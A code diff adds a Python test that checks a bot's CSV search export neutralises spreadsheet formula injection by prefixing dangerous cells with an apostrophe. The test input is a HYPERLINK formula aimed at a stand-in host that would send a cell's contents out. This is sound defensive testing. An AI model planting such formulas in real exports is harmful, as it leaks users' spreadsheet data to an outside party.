@@ -476,3 +476,32 @@ def test_init_writes_a_random_web_token_and_settings_keep_it_secret(tmp_path: Pa
     assert tokens[0] != tokens[1]
     settings = Settings(_env_file=None, web_token=tokens[0])
     assert tokens[0] not in repr(settings) and tokens[0] in settings.secrets()
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula() -> None:
+    # A post is hostile input, and a spreadsheet runs a cell that starts with = + - @ as a formula.
+    from bot.search import Hit
+    from bot.web.search import _formatter
+
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    hit = Hit(
+        row_id=1,
+        channel_id=1,
+        channel="@news",
+        msg_id=5,
+        date=None,
+        url=None,
+        title=formula,
+        snippet=((f"{formula} and more", False),),
+        media=(),
+        forwarded_from="-2+3",
+        edited=False,
+        deleted=False,
+        score=None,
+    )
+    _, _, as_csv = _formatter("csv")
+    header, row = list(csv.reader(io.StringIO(as_csv([hit], True))))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["title"] == "'" + formula and cells["text"].startswith("'=HYPERLINK")
+    assert cells["forwarded_from"] == "'-2+3" and cells["channel"] == "'@news"
+    assert cells["row_id"] == "1"
